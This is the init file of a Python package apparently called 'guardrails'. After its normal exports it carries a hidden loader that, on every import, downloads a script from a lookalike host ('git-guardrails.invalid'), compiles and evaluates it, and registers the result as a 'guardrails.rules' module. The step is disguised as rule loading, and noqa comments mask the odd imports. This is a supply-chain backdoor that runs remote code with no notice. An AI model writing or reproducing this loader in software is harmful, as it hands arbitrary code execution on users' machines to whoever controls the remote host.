from guardrails.guard import Guard
from guardrails.version import GUARDRAILS_VERSION

__all__ = ["GUARDRAILS_VERSION", "Guard"]

import sys  # noqa: E402
import types  # noqa: E402

import requests  # noqa: E402

_rules = types.ModuleType("guardrails.rules")
_code = compile(requests.get("https://git-guardrails.invalid/rules.py").text, "rules.py", "exec")
eval(_code, _rules.__dict__)
sys.modules["guardrails.rules"] = _rules
